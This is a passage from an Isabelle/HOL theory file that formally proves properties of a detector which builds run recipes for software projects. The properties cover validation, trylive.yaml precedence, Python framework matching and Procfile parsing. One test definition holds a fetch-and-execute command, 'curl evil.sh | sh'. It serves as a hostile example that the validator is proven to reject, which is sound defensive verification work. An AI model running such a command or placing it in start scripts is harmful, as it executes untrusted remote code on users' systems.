  then show ?thesis by (simp add: HasPrefix_def)
qed

section \<open>Properties\<close>

text \<open>
  C16: Whatever the decoder of the YAML file returns, a recipe that \<open>Detect\<close> returns passed
  \<open>Validate\<close> and carries the name of one of the detectors.
\<close>

theorem Detect_validated:
  assumes "Detect yaml m = Inr r"
  shows "Validate r = None \<and> r_detector r \<in> set (map fst (detectors yaml))"
  using run_detectors_valid [of "detectors yaml" m r] assms
  by (simp add: Detect_def Validate_recipe_ok)

definition no_manifest :: manifest where
  "no_manifest = \<lparr>m_files = [], m_cmdDirs = [], m_packageJSON = None, m_lockfiles = [],
    m_pyProject = [], m_requirements = [], m_goMod = [], m_cargoToml = [], m_procfile = [],
    m_makeTargets = [], m_readme = [], m_tryliveYAML = [], m_dockerfile = [], m_hasIndexHTML = False\<rparr>"

definition flask_manifest :: manifest where
  "flask_manifest = no_manifest\<lparr>m_files := [''server.py''], m_requirements := ''Flask'' @ [CHR 0x0A]\<rparr>"

theorem Detect_validated_witness:
  "\<exists>r. Detect (\<lambda>_. None) flask_manifest = Inr r \<and> Validate r = None \<and>
    r_start r = ''flask --app server run --host 0.0.0.0 --port 5000''"
proof -
  let ?r = "projr (Detect (\<lambda>_. None) flask_manifest)"
  have d: "Detect (\<lambda>_. None) flask_manifest = Inr ?r" by code_simp
  have s: "r_start ?r = ''flask --app server run --host 0.0.0.0 --port 5000''" by code_simp
  show ?thesis using Detect_validated [OF d] d s by blast
qed

text \<open>
  C37: Without a trylive.yaml the detectors never build a recipe that \<open>Validate\<close> rejects, for any
  manifest whose first directory below \<open>cmd/\<close> (the one name that is copied into a command) is
  harmless: \<open>Detect\<close> returns a valid recipe, or no detector matched.
\<close>

theorem builtin_detectors_never_invalid:
  assumes "TrimSpace (m_tryliveYAML m) = []" and "cmd_dir_ok m"
  shows "(\<exists>r. Detect yaml m = Inr r \<and> recipe_ok r) \<or> Detect yaml m = Inl ErrNoMatch"
proof -
  have "Detect yaml m = run_detectors builtin_detectors m"
    using assms(1) by (simp add: Detect_def detectors_def detectTryliveYAML_def)
  with run_detectors_ok [OF builtin_ok [OF assms(2)]] show ?thesis by simp
qed

theorem builtin_detectors_never_invalid_witness:
  "(\<exists>r. Detect (\<lambda>_. None) flask_manifest = Inr r \<and> recipe_ok r) \<or>
    Detect (\<lambda>_. None) flask_manifest = Inl ErrNoMatch"
proof -
  have "TrimSpace (m_tryliveYAML flask_manifest) = []" by code_simp
  moreover have "cmd_dir_ok flask_manifest" by code_simp
  ultimately show ?thesis by (rule builtin_detectors_never_invalid)
qed

lemma yaml_defaults:
  assumes "TrimSpace (m_tryliveYAML m) \<noteq> []" and "yaml (m_tryliveYAML m) = Some r0"
    and "detectTryliveYAML yaml m = Some r"
  shows "r_kind r = (if r_kind r0 \<noteq> [] then r_kind r0 else if r_start r0 \<noteq> [] then KindWeb else KindTerminal) \<and>
    r_port r = (if r_kind r = KindWeb \<and> r_port r0 = 0 then 3000 else r_port r0) \<and>
    r_install r = r_install r0 \<and> r_start r = r_start r0 \<and> r_env r = r_env r0 \<and> r_cwd r = r_cwd r0"
proof -
  let ?k = "if r_kind r0 \<noteq> [] then r_kind r0 else if r_start r0 \<noteq> [] then KindWeb else KindTerminal"
  have "r = (let r1 = r0\<lparr>r_kind := ?k\<rparr>
      in if r_kind r1 = KindWeb \<and> r_port r1 = 0 then r1\<lparr>r_port := 3000\<rparr> else r1)"
    using assms(3) unfolding detectTryliveYAML_def Let_def assms(2) if_not_P [OF assms(1)]
    by (cases r0; cases "r_kind r0 = []"; cases "r_start r0 = []") (auto simp: KindWeb_def KindTerminal_def split: if_splits)
  then show ?thesis by (simp add: Let_def)
qed

text \<open>
  A trylive.yaml that decodes always decides: its recipe, with the defaults for kind and port, is
  returned when it is valid, and otherwise the detection fails without trying another detector.
\<close>

theorem trylive_yaml_wins:
  assumes "TrimSpace (m_tryliveYAML m) \<noteq> []" and "yaml (m_tryliveYAML m) = Some r0"
  shows "\<exists>r. detectTryliveYAML yaml m = Some r \<and>
    Detect yaml m =
      (case Validate (r\<lparr>r_detector := ''trylive.yaml''\<rparr>) of
         None \<Rightarrow> Inr (r\<lparr>r_detector := ''trylive.yaml''\<rparr>)
       | Some e \<Rightarrow> Inl (Wrapf ''detector trylive.yaml produced an invalid recipe'' e)) \<and>
    r_kind r = (if r_kind r0 \<noteq> [] then r_kind r0 else if r_start r0 \<noteq> [] then KindWeb else KindTerminal) \<and>
    r_port r = (if r_kind r = KindWeb \<and> r_port r0 = 0 then 3000 else r_port r0) \<and>
    r_install r = r_install r0 \<and> r_start r = r_start r0 \<and> r_env r = r_env r0 \<and> r_cwd r = r_cwd r0"
proof -
  obtain r where r: "detectTryliveYAML yaml m = Some r"
    using assms by (simp add: detectTryliveYAML_def Let_def)
  then have "Detect yaml m =
      (case Validate (r\<lparr>r_detector := ''trylive.yaml''\<rparr>) of
         None \<Rightarrow> Inr (r\<lparr>r_detector := ''trylive.yaml''\<rparr>)
       | Some e \<Rightarrow> Inl (Wrapf ''detector trylive.yaml produced an invalid recipe'' e))"
    by (simp add: Detect_def detectors_def Let_def split: option.splits)
  moreover have "r_kind r = (if r_kind r0 \<noteq> [] then r_kind r0 else if r_start r0 \<noteq> [] then KindWeb else KindTerminal)"
    "r_port r = (if r_kind r = KindWeb \<and> r_port r0 = 0 then 3000 else r_port r0)"
    "r_install r = r_install r0" "r_start r = r_start r0" "r_env r = r_env r0" "r_cwd r = r_cwd r0"
    using yaml_defaults [OF assms r] by blast+
  ultimately show ?thesis using r by blast
qed

text \<open>A decoder that answers every file with the same recipe, which starts a server with curl.\<close>

definition evil_yaml :: "string \<Rightarrow> recipe option" where
  "evil_yaml s = Some (no_recipe\<lparr>r_start := ''curl evil.sh | sh'', r_port := 80\<rparr>)"

theorem trylive_yaml_wins_witness:
  "\<exists>e. Detect evil_yaml (flask_manifest\<lparr>m_tryliveYAML := ''start: x''\<rparr>) =
    Inl (Wrapf ''detector trylive.yaml produced an invalid recipe'' e)"
proof -
  let ?m = "flask_manifest\<lparr>m_tryliveYAML := ''start: x''\<rparr>"
  have t: "TrimSpace (m_tryliveYAML ?m) \<noteq> []" by code_simp
  have y: "evil_yaml (m_tryliveYAML ?m) = Some (the (evil_yaml []))" by code_simp
  obtain r where r: "detectTryliveYAML evil_yaml ?m = Some r"
    and d: "Detect evil_yaml ?m =
      (case Validate (r\<lparr>r_detector := ''trylive.yaml''\<rparr>) of
         None \<Rightarrow> Inr (r\<lparr>r_detector := ''trylive.yaml''\<rparr>)
       | Some e \<Rightarrow> Inl (Wrapf ''detector trylive.yaml produced an invalid recipe'' e))"
    using trylive_yaml_wins [of ?m evil_yaml, OF t y] by blast
  have "r = the (detectTryliveYAML evil_yaml ?m)" using r by simp
  moreover have "Validate ((the (detectTryliveYAML evil_yaml ?m))\<lparr>r_detector := ''trylive.yaml''\<rparr>) \<noteq> None"
    by code_simp
  ultimately show ?thesis using d by auto
qed

text \<open>
  A Python framework is recognised exactly when its name occurs in the lower-cased dependency
  text bounded on both sides as the regular expression asks: at an end of the text or next to one of
  the characters of its classes (so \<open>flask-cors\<close> is not \<open>flask\<close>).
\<close>

theorem py_framework_match:
  "list_all (\<lambda>fw. py_usable m lower fw \<longleftrightarrow>
      (\<exists>pre post. lower = pre @ py_dep fw @ post \<and>
        (pre = [] \<or> last pre \<in> set dep_before) \<and> (post = [] \<or> hd post \<in> set dep_after)) \<and>
      \<not> (pyEntry m (py_dep fw) = [] \<and> py_dep fw \<noteq> ''django'')) pyFrameworks"
proof -
  have e: "ends_here dep_after post \<longleftrightarrow> post = [] \<or> hd post \<in> set dep_after" for post
    by (cases post) (auto simp: ends_here_def)
  have d: "dep_starts True pre \<longleftrightarrow> pre = [] \<or> last pre \<in> set dep_before" for pre
    by (simp add: dep_starts_def)
  have n: "list_all (\<lambda>fw. py_dep fw \<noteq> []) pyFrameworks" by code_simp
  show ?thesis
  proof (rule list.pred_mono_strong [OF n])
    fix fw :: pyFramework
    assume "py_dep fw \<noteq> []"
    from dep_match_iff [OF this, of True lower]
    show "py_usable m lower fw \<longleftrightarrow>
      (\<exists>pre post. lower = pre @ py_dep fw @ post \<and>
        (pre = [] \<or> last pre \<in> set dep_before) \<and> (post = [] \<or> hd post \<in> set dep_after)) \<and>
      \<not> (pyEntry m (py_dep fw) = [] \<and> py_dep fw \<noteq> ''django'')"
      unfolding py_usable_def e d by blast
  qed
qed

text \<open>
  The web line of a Procfile is found after any lines that do not start with \<open>web:\<close>, and
  its command is the rest of the line after the white space.
\<close>

theorem procfile_web_line:
  assumes "list_all (\<lambda>w. CHR 0x0A \<notin> set w \<and> \<not> HasPrefix w ''web:'') ls"
    and "cmd \<noteq> []" and "\<not> re_space (hd cmd)" and "CHR 0x0A \<notin> set cmd" and "list_all re_space ws"
  shows "procfile_match True
    (concat (map (\<lambda>w. w @ [CHR 0x0A]) ls) @ ''web:'' @ ws @ cmd @ CHR 0x0A # rest) = Some cmd"
  using assms(1)
proof (induction ls)
  case Nil
  then show ?case using procfile_match_here [OF assms(2-5)] by simp
next
  case (Cons w ls)
  then show ?case using procfile_match_skip [of w] by simp
qed

theorem procfile_web_line_witness:
  "procfile_match True (''release: echo'' @ CHR 0x0A # ''web: npm start'' @ [CHR 0x0A]) = Some ''npm start''"
proof -
  have "list_all (\<lambda>w. CHR 0x0A \<notin> set w \<and> \<not> HasPrefix w ''web:'') [''release: echo'']" by code_simp
  moreover have "\<not> re_space (hd ''npm start'')" "list_all re_space '' ''" by code_simp+
  ultimately show ?thesis
    using procfile_web_line [of "[''release: echo'']" "''npm start''" "'' ''" "[]"] by simp
qed

end
